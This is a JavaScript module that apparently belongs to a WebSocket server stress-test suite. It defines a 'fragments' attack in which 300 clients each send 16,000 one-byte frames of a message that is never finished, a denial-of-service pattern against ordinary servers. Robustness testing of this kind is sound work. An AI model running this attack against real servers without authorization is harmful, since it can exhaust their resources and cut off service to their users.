import { onMany } from '../lib/pieces.mjs'
import { CONTINUATION, frame, TEXT } from '../lib/wire.mjs'

const FRAGMENTS = 16_000

/** @type {import('./index.mjs').Attack} */
export const attack = {
  row: 'e',
  name: 'fragments',
  what: '300 clients send a message of 16,000 fragments of one byte, and not the last one',
  seconds: 8,
  async attack(place) {
    const first = frame('x', TEXT, false)
    const more = frame('x', CONTINUATION, false)
    const all = Buffer.concat([first, ...Array.from({ length: FRAGMENTS - 1 }, () => more)])
    await onMany(place, 300, async (socket) => socket.write(all))
  },
}
